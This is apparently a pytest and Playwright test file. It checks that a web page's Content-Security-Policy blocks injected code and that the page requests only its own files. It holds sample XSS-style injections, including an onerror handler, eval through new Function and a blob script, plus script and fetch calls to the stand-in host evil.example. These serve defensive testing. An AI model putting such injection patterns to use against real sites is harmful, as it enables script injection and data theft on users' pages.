"""The page loads, asks nobody else, and runs nothing that is not its own."""

import pytest

from function_app.page import CONTENT_TYPES

PLANTED = {
    "inline script": """() => {
        const script = document.createElement("script");
        script.textContent = "window.planted = 1";
        document.head.append(script);
    }""",
    "handler in HTML": """() => {
        const html = "<img src='none' onerror='window.planted = 1'>";
        document.body.insertAdjacentHTML("beforeend", html);
    }""",
    "style in HTML": """() => {
        document.body.insertAdjacentHTML("beforeend", "<p id='styled' style='color: red'>x</p>");
        const { color } = getComputedStyle(document.getElementById("styled"));
        if (color === "rgb(255, 0, 0)") window.planted = 1;
    }""",
    "script of another host": """() => {
        const script = document.createElement("script");
        script.src = "http://evil.example/planted.js";
        document.head.append(script);
    }""",
    "text as code": """() => new Promise((done) => {
        setTimeout(() => {
            try { new Function("window.planted = 1")(); } catch {}
            done();
        });
    })""",
    "script in a blob": """() => {
        const script = document.createElement("script");
        script.src = URL.createObjectURL(new Blob(["window.planted = 1"]));
        document.head.append(script);
    }""",
    "request to another host": """async () => {
        try { await fetch("http://evil.example/"); window.planted = 1; } catch {}
    }""",
}


def test_the_page_loads_with_the_headers_that_the_contract_names(page, visited):
    answer = page.goto(visited.url)
    assert answer.status == 200
    assert answer.headers["content-security-policy"] == (
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob:; "
        "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
    )
    page.get_by_role("heading", level=1).wait_for()


def test_the_page_asks_for_its_own_files_and_for_the_api_only(page, visited):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(visited.url, wait_until="networkidle")
    paths = [url.removeprefix(visited.url) for url in asked if not url.startswith("blob:")]
    assert {"", "app.js", "app.css"} <= set(paths)
    others = [path for path in paths if not path.startswith("api/")]
    assert set(others) <= {"", *CONTENT_TYPES}


@pytest.mark.parametrize("kind", PLANTED)
def test_what_is_planted_is_refused(page, visited, watch, kind):
    watch.allow("Content Security Policy")
    watch.allow("^console: violation: ")
    watch.allow("^request: GET http://evil.example/")
    watch.allow("status of 404")  # the picture whose handler is planted
    page.goto(visited.url)
    page.get_by_role("heading", level=1).wait_for()
    with page.expect_console_message(lambda message: message.text.startswith("violation: ")):
        page.evaluate(PLANTED[kind])
    assert page.evaluate("window.planted") is None


def test_watching_finds_what_a_page_must_not_do(page, visited, watch):
    page.goto(visited.url)
    with page.expect_console_message():
        page.evaluate("console.error('an error')")
    with page.expect_event("pageerror"):
        page.evaluate("setTimeout(() => { throw new Error('nobody catches') })")
    with page.expect_console_message():
        page.evaluate("() => fetch('/nothing').then(() => null)")
    told = "\n".join(watch.unexpected())
    for expected in ("an error", "nobody catches", "status of 404"):
        assert expected in told
        watch.allow(expected)


def test_nothing_grave_hinders_people_with_disabilities(page, visited, axe):
    page.goto(visited.url, wait_until="networkidle")
    assert axe() == []
